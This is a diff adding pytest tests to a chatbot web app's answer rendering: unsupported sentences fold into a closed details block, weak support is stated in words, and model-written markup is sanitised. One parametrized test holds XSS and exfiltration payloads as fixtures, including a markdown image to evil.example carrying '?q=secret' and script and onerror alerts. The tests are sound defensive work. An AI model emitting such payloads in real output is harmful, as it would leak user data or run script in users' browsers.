@@ -16,10 +16,11 @@ from starlette.routing import Route
 from starlette.testclient import TestClient
 
 from chatbot import Answer, Citation, Claim, Filters
+from chatbot.answers import WEAKLY, Written
 from chatbot.conversations import Conversation, Exchange, turns
 from chatbot.markdown import escape
+from chatbot.page import collection, messages, wording
 from chatbot.page import conversation as talk
-from chatbot.page import messages, wording
 from chatbot.page.actions import actions, suggested
 from chatbot.page.desk import Desk
 from chatbot.page.guard import HEADERS, UPLOAD, Guard
@@ -356,3 +357,55 @@ def test_requests_have_a_largest_size(guarded: TestClient) -> None:
 )
 def test_other_sites_pages_are_refused(guarded: TestClient, origin: str, status: int) -> None:
     assert guarded.post("/", headers={"Origin": origin}).status_code == status
+
+
+WRITTEN = dict(mode="written", model="openai:<b>x</b>")
+
+
+def test_what_the_model_wrote_without_support_is_folded_up_and_marked() -> None:
+    sentences = (
+        Written(text="Two went.", level="supported", citations=(1,)),
+        Written(text="<img src=x> Ten went.", level="unsupported", reasons=("Not “10”.",)),
+    )
+    given = answer("Two went. [1]", citation(1), sentences=sentences, **WRITTEN)
+    seen = Seen(messages.answered(given))
+    names = [name for name, _ in seen.elements]
+    assert names.count("details") == names.count("summary") == 1 and "img" not in names
+    assert "open" not in dict(seen.elements)["details"]
+    assert "<img src=x> Ten went." in seen.text and "Not “10”." in seen.text
+    assert wording.left_out(1) in seen.text and "openai:<b>x</b>" in seen.text
+    assert "details" not in messages.answered(answer("Two went. [1]", citation(1)))
+
+
+def test_weakly_supported_is_said_in_words() -> None:
+    given = answer(f"Two went. [1] *{WEAKLY}*", citation(1), **WRITTEN)
+    html = messages.answered(given)
+    assert f"<em>{WEAKLY}</em>" in html and WEAKLY.strip("()") in wording.written_by("x")
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "[here](https://evil.example)",
+        "<https://evil.example>",
+        "<img src=https://evil.example/x.png onerror=alert(1)>",
+        "https://evil.example and www.evil.example",
+        "[a]: https://evil.example\n\n![a]",
+        "`code` <script>alert(1)</script>",
+        "&lt;img src=x&gt; &#60;svg/onload=alert(1)&#62;",
+    ],
+)
+def test_no_link_or_image_of_a_models_is_rendered(said: str) -> None:
+    for text in (said, escape(said)):
+        seen = Seen(messages.answered(answer(f"{text} [1]", citation(1), **WRITTEN)))
+        assert {name for name, _ in seen.elements} <= {"div", "p", "button", "br", "em", "strong"}
+        assert not any(
+            {"href", "src", "onerror"} & set(attributes) for _, attributes in seen.elements
+        )
+
+
+def test_the_masthead_says_which_model_writes() -> None:
+    seen = collection.Collection(3, "2024-05-07", "written", "ollama:llama3.2")
+    assert "ollama:llama3.2" in collection.masthead(seen)
+    assert "Quotes mode" in collection.masthead(collection.Collection(3, None, "quotes"))
